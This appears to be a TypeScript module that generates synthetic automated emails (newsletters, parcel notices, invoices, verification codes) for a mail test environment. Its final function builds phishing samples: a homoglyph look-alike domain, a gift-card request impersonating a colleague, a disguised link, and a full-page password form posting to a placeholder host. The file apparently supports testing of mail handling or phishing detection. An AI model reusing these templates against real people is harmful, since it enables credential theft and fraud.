/** Letters that nobody wrote by hand: newsletters, notices, bills, codes, and those that only pretend to be. */
import { company } from './company.ts';
import type { Firm, Language } from './cultures.ts';
import { pdf } from './enclosures.ts';
import { colleague } from './letters-from-people.ts';
import { escape, htmlPage, slug, unread, type Letter, type Occasion } from './letter.ts';
import { news } from './phrases.ts';
import { hex } from './random.ts';

const colours = ['#0b5d7a', '#7a2e0b', '#2f6b3a', '#5b2a86', '#8a6d00', '#1f2a44'];

function remote(host: string, file: string, width: number, height: number): string {
  return `<img src="https://cdn.${host}/${file}" width="${width}" height="${height}" alt="" border="0" style="display:block">`;
}

/** Invisible, one pixel: loading it tells the sender that the letter was read. */
function tracker(now: Occasion, host: string): string {
  return `<img src="https://px.${host}/o/${hex(16, now.roll.below(1e9))}.gif" width="1" height="1" alt="">`;
}

function button(href: string, text: string, colour: string): string {
  return `<table role="presentation" cellpadding="0" cellspacing="0"><tr><td bgcolor="${colour}" style="border-radius:4px; padding:10px 18px"><a href="${href}" style="color:#ffffff; text-decoration:none; font-weight:bold">${escape(text)}</a></td></tr></table>`;
}

/** The six-hundred-pixel table that mass mail is built from. */
function sheet(now: Occasion, rows: readonly string[], preheader: string, host: string): string {
  const head =
    '<style type="text/css">body{margin:0}.sheet{width:600px}@media (max-width:620px){.sheet{width:100%!important}.hero img{width:100%;height:auto}}</style>';
  const cells = rows
    .map((row) => `<tr><td style="padding:12px 24px">${row}</td></tr>`)
    .join('\r\n');
  const body = `<div style="display:none">${escape(preheader)}&zwnj;&nbsp;&zwnj;&nbsp;</div><table role="presentation" width="100%" bgcolor="#f2f2ef" cellpadding="0" cellspacing="0"><tr><td align="center"><table class="sheet" role="presentation" width="600" bgcolor="#ffffff" cellpadding="0" cellspacing="0" style="font-family:Helvetica,Arial,sans-serif; font-size:15px">${cells}</table></td></tr></table>${tracker(now, host)}`;
  return htmlPage(body, head, now.words.direction);
}

function noReply(firm: Firm): Letter['from'] {
  return { name: firm.name, address: `no-reply@${firm.domain}` };
}

export function newsletter(now: Occasion): Letter {
  const { roll, words, say, language } = now;
  const masthead = roll.of(news.mastheads);
  const host = `${slug(masthead)}.example`;
  const colour = roll.of(colours);
  const english = language === 'en';
  const headline = () => roll.of(english ? news.headlines : words.news.slice(3));
  const lead = say(headline());
  const article = (title: string, at: number) =>
    `<table role="presentation" width="100%"><tr><td width="180" valign="top">${remote(host, `a/${slug(masthead)}-${at}.jpg`, 168, 112)}</td><td valign="top"><h2 style="font-size:17px; margin:0 0 6px; color:${colour}">${escape(title)}</h2><p style="margin:0">${escape(say(roll.of(english ? news.teasers : words.sentences)))}</p><a href="https://click.${host}/r/${hex(12, roll.below(1e9))}" style="color:${colour}">${words.news[0]} ›</a></td></tr></table>`;
  const rows = () => [
    `<h1 style="margin:0; font-family:Georgia,serif; color:${colour}">${masthead}</h1>`,
    `<div class="hero">${remote(host, `hero/${now.number}.jpg`, 552, 240)}</div>`,
    article(lead, 1),
    article(say(headline()), 2),
    ...(roll.chance(60) ? [article(say(headline()), 3)] : []),
    button(`https://click.${host}/r/${hex(12, roll.below(1e9))}`, words.news[0] ?? '', colour),
    `<p style="font-size:12px; color:#777777">${words.news[2]} <a href="https://${host}/unsubscribe?u=${hex(10, roll.below(1e9))}" style="color:#777777">${words.news[1]}</a></p>`,
  ];
  return {
    from: { name: masthead, address: `hello@news.${host}` },
    subject: lead,
    body: unread('html', () => sheet(now, rows(), `${masthead} – ${lead}`, host)),
    bulk: true,
  };
}

export function parcel(now: Occasion): Letter {
  const [subject = '', sentence = '', track = ''] = now.words.parcel.map(now.say);
  const write = () => {
    const colour = now.roll.of(colours);
    const code = hex(14, now.roll.below(1e9)).toUpperCase();
    const done = now.roll.below(3) + 1;
    const steps = [1, 2, 3, 4].map(
      (step) => `<td height="6" bgcolor="${step <= done ? colour : '#dddddd'}"></td>`,
    );
    const rows = [
      remote(now.firm.domain, 'brand/logo.png', 140, 40),
      `<p>${escape(sentence)}</p><table role="presentation" width="100%" cellspacing="3"><tr>${steps.join('')}</tr></table>`,
      `<p style="font-family:monospace">${code}</p>${button(`https://track.${now.firm.domain}/${code}`, track, colour)}`,
    ];
    return sheet(now, rows, '', now.firm.domain);
  };
  return {
    from: noReply(now.firm),
    subject,
    body: unread('html', write),
    bulk: true,
  };
}

const bills: Readonly<Record<Language, readonly [group: string, point: string, form: string]>> = {
  en: [',', '.', '£#'],
  de: ['.', ',', '#\u00A0€'],
  fr: ['\u202F', ',', '#\u00A0€'],
  es: ['.', ',', '#\u00A0€'],
  pt: ['.', ',', '€\u00A0#'],
  ja: [',', '', '￥#'],
  ar: [',', '.', '#\u00A0€'],
  he: [',', '.', '#\u00A0€'],
  pl: ['\u00A0', ',', '#\u00A0€'],
};

/** Written by hand: what a platform's own rules for it cost would be most of the time that a page of mail takes. */
function moneyIn(language: Language, amount: number): string {
  const [group, point, form] = bills[language];
  const [whole = '', cents = ''] = amount.toFixed(point ? 2 : 0).split('.');
  return form.replace('#', whole.replaceAll(/\B(?=(\d{3})+$)/g, group) + point + cents);
}

export function invoice(now: Occasion): Letter {
  const [subject = '', sentence = '', item = '', total = '', view = ''] = now.words.invoice.map(
    now.say,
  );
  const currency = now.language === 'en' ? 'GBP' : now.language === 'ja' ? 'JPY' : 'EUR';
  const money = (amount: number) => moneyIn(now.language, amount);
  const lines = Array.from({ length: 1 + now.roll.below(4) }, (_, at) => ({
    text: `${item} ${at + 1}`,
    amount: 40 + now.roll.below(90_000) / (currency === 'JPY' ? 1 : 100),
  }));
  const sum = lines.reduce((all, line) => all + line.amount, 0);
  const row = (text: string, amount: number, weight = 'normal') =>
    `<tr style="font-weight:${weight}"><td style="border-bottom:1px solid #dddddd; padding:6px 0">${escape(text)}</td><td align="right" style="border-bottom:1px solid #dddddd">${money(amount)}</td></tr>`;
  const write = () => {
    const table = `<table width="100%" cellspacing="0">${lines.map((line) => row(line.text, line.amount)).join('')}${row(total, sum, 'bold')}</table>`;
    const href = `https://billing.${now.firm.domain}/i/${hex(10, now.roll.below(1e9))}`;
    const rows = [`<p>${escape(sentence)}</p>`, table, button(href, view, now.roll.of(colours))];
    return sheet(now, rows, '', now.firm.domain);
  };
  return {
    from: { name: `${now.firm.name} Billing`, address: `billing@${now.firm.domain}` },
    subject,
    body: unread('html', write),
    enclosures: [
      pdf(`invoice-${now.number}.pdf`, [now.firm.name, subject, `${currency} ${sum.toFixed(2)}`]),
    ],
  };
}

export function code(now: Occasion): Letter {
  const figures = String(100_000 + now.roll.below(900_000));
  // The number in the subject is the code itself, not the occasion's number.
  const [subject = '', before = '', after = ''] = now.words.code.map((phrase) =>
    now.say(phrase.replace('{n}', figures)),
  );
  const body = () =>
    `<p>${escape(before)}</p><p style="font-size:32px; letter-spacing:.3em; font-weight:bold">${figures}</p><p style="color:#666666">${escape(after)}</p>`;
  return {
    from: noReply(now.firm),
    subject,
    body: unread('html', () => htmlPage(body(), '', now.words.direction)),
    bulk: true,
  };
}

/** Letters that lie about who sent them or where their links lead. Nothing in them works. */
export function lure(now: Occasion): Letter {
  const { roll, owner } = now;
  const host = roll.of(['account-check.example', 'secure-mailbox.example']);
  // A Cyrillic "о" in the company's name; browsers show such a host as xn--.
  const lookAlike = company.domain.replace('o', 'о');
  const from = roll.of([
    { name: colleague(roll, owner).name ?? '', address: `ceo.office@${host}` },
    { name: `security@${company.domain}`, address: `notice-${now.number}@${host}` },
    { name: `${company.name} IT Service Desk`, address: `helpdesk@${lookAlike}` },
  ]);
  const real = `https://${company.domain}.${host}/login?u=${hex(8, roll.below(1e9))}`;
  const [subject, body] = roll.of([
    [
      'URGENT: your mailbox will be closed',
      `<p>Your mailbox is 99% full and will be closed today.</p><p><a href="${real}">https://portal.${company.domain}/mailbox/quota</a></p>`,
    ],
    [
      'Are you available?',
      `<p>${escape(owner.givenName)}, are you at your desk? I need you to buy gift cards for a client, discreetly. Reply only to this address.</p>`,
    ],
    [
      `Shared with you: Salary_review_${now.number}.xlsx`,
      `<div style="position:fixed; top:0; left:0; width:100%; height:100%; background:#ffffff; z-index:9999"><p>A document was shared with you.</p><form action="https://${host}/collect" method="post"><input name="user" value="${escape(owner.userPrincipalName)}"><input type="password" name="pass" placeholder="Password"><input type="submit" value="Open document"></form><a href="https://${lookAlike}/open">${company.domain}</a></div>`,
    ],
  ] as const);
  return {
    from,
    replyTo: [{ name: from.name, address: `reply-${now.number}@${host}` }],
    subject,
    body: unread('html', () => htmlPage(`${body}${tracker(now, host)}`)),
    importance: 'high',
    authentic: 'fail',
  };
}
